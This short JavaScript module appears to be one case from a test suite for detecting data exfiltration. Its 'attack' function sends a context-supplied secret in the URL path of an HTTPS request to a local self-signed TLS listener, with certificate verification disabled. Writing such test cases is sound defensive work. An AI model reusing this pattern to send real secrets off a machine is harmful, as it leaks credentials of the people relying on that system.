// https.get with the secret in the path (TLS listener, self-signed).
import https from 'node:https';
export const meta = { kind: 'network', evidence: 'tls' };
export default function attack(ctx) {
  return new Promise((resolve, reject) => {
    https
      .get({ host: '127.0.0.1', port: ctx.tlsPort, path: '/' + ctx.secret, rejectUnauthorized: false }, (res) => {
        res.resume();
        res.on('end', () => resolve('sent'));
      })
      .on('error', reject);
  });
}
